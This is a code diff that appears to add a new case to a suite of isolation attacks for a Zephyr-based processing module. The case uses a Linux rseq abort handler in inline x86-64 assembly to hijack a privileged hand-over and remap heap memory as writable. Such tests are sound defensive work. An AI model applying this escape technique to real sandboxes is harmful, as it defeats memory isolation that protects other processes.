@@ -4,6 +4,9 @@
  * hand-over. They are tricks, of code that knows where all of that is: only a process of its own holds against them.
  */
 #include <string.h>
+#if defined(__x86_64__) && __has_include(<sys/rseq.h>)
+#include <sys/rseq.h>
+#endif
 
 #include <zephyr/kernel.h>
 
@@ -135,6 +138,73 @@ static void hand_over_on_channel(struct processing_module *mod)
 			 : "r"(PROCESS_CHANNEL + 0x200ul), "r"(process_hand_over)
 			 : "memory");
 }
+
+/*
+ * A restartable sequence of instructions that is the way back from the hand-over: Linux leads its thread, which it has
+ * interrupted there, to the attacker's code, with changes of the view still to be made. They become others.
+ */
+#if defined(RSEQ_SIG)
+
+#define SEQUENCE_BYTES 4
+#define STACK_WORDS    1024
+
+struct sequence {
+	_Alignas(32) uint32_t version;
+	uint32_t flags;
+	uint64_t start, bytes, abort;
+};
+
+extern const char attack_sequence_abort[];
+extern uintptr_t attack_sequence_stack;
+uintptr_t attack_sequence_stack;
+void attack_sequence_change(void);
+
+static struct sequence sequence;
+static _Alignas(16) uintptr_t stack_words[STACK_WORDS];
+
+void attack_sequence_change(void)
+{
+	struct process_op *op = &CHANNEL->ops[0];
+	const uintptr_t wanted = (uintptr_t)heap_base();
+
+	op->offset += (long)(wanted - op->start);
+	op->start = wanted;
+	op->prot = 3;
+}
+
+__asm__(".text\n\t"
+	".long 0x53053053\n"
+	"attack_sequence_abort:\n\t"
+	"movq attack_sequence_stack(%rip), %rsp\n\t"
+	"subq $512, %rsp\n\t"
+	"call attack_sequence_change\n\t"
+	"movq attack_sequence_stack(%rip), %rsp\n\t"
+	"movl $1, %eax\n\t"
+	"jmp process_handed_over\n");
+
+/* Where the hand-over returns to. */
+static void write_what_was_mapped(void)
+{
+	write_word(heap_base());
+	for (;;)
+		attack_word++;
+}
+
+static void restart_in_hand_over(struct processing_module *mod)
+{
+	uintptr_t *top = &stack_words[STACK_WORDS - 9];
+
+	top[1] = (uintptr_t)write_what_was_mapped; /* behind a register */
+	attack_sequence_stack = (uintptr_t)top;
+	sequence = (struct sequence){ .start = (uintptr_t)process_handed_over,
+				      .bytes = SEQUENCE_BYTES,
+				      .abort = (uintptr_t)attack_sequence_abort };
+	((struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset))->rseq_cs =
+		(uintptr_t)&sequence;
+	mod_fast_get(mod, attack_large_table, sizeof(attack_large_table));
+	write_word(heap_base()); /* here */
+}
+#endif
 #endif
 
 const struct attack inside_attacks[] = {
@@ -156,6 +226,9 @@ const struct attack inside_attacks[] = {
 	ATTACK(step_through_hand_over),
 	ATTACK(hand_over_without_stack),
 	ATTACK(hand_over_on_channel),
+#if defined(RSEQ_SIG)
+	ATTACK(restart_in_hand_over),
+#endif
 #endif
 	{ NULL, NULL },
 };
